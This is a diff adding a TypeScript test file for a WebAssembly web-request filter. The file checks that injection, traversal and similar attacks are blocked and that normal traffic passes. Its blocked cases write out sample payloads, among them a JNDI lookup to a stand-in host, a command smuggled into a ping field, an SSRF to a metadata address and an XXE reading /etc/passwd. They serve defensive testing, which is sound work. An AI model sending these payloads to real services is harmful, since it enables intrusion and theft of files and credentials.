@@ -1,0 +1,52 @@
+// Attack detection in the filter, through the host, with the shipped strict policy: blocked in the path,
+// query, headers and bodies before the upstream sees them; prose and normal API traffic pass.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { PluginHost, SharedState } from "../../host/index.ts";
+import { exchange, okResponse, request } from "./exchange.ts";
+
+const root = new URL("../../", import.meta.url).pathname;
+let h: PluginHost;
+const logs: string[] = [];
+before(async () => {
+  h = await PluginHost.create({
+    module: readFileSync(`${root}build/l7guard.wasm`), configuration: readFileSync(`${root}examples/policies/strict.json`, "utf8"),
+    shared: new SharedState(), allowOnHeadersStopIteration: true, logger: (l) => logs.push(l.message), logLevel: "warn",
+  });
+});
+after(() => h.close());
+
+const json = [["content-type", "application/json"]] as Array<[string, string]>;
+const send = (method: string, path: string, extra: Array<[string, string]> = [], body?: string[]) =>
+  exchange(h, { requestHeaders: request(method, path, extra), requestBody: body, responseHeaders: okResponse() });
+
+test("attacks are blocked wherever they are, with the class in the reply and nothing sent upstream", async () => {
+  const cases: Array<[string, Promise<Awaited<ReturnType<typeof send>>>]> = [
+    ["sqli", send("GET", "/items?id=1%27%20OR%20%271%27%3D%271")],
+    ["traversal", send("GET", "/static/..%2f..%2f..%2fetc%2fpasswd")],
+    ["jndi", send("GET", "/", [["user-agent", "${${lower:j}ndi:ldap://evil.example/a}"]])],
+    ["xss", send("POST", "/comments", json, ['{"text":"<img src=x onerror=alert(1)>"}'])],
+    ["ssrf", send("POST", "/webhooks", json, ['{"url":"http://169.254.169.254/latest/meta-data/"}'])],
+    ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["host=8.8.8.8%3B%20cat%20%2Fetc%2Fhosts"])],
+    ["xxe", send("POST", "/import", [["content-type", "application/xml"]], ['<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'])],
+    ["ssti", send("POST", "/render", json, ['{"template":"{{7*7}}"}'])],
+  ];
+  for (const [cls, pending] of cases) {
+    const r = await pending;
+    assert.equal(r.status(), 403, cls);
+    assert.equal(r.json().class, cls);
+    assert.equal(r.upstreamHeaders, undefined, `${cls}: the upstream saw nothing`);
+  }
+});
+
+test("prose and normal API calls pass", async () => {
+  const ok = [
+    await send("GET", "/search?q=select+a+drop-off+point"),
+    await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
+    await send("GET", "/products/42?sort=price&order=asc"),
+    await send("POST", "/links", json, ['{"url":"https://www.example.com/docs/page?id=7"}']),
+  ];
+  for (const r of ok) assert.equal(r.status(), 200, r.downstreamBody.toString());
+  assert.ok(!logs.some((l) => l.includes("attack") && l.includes("/search")), logs.join("\n"));
+});
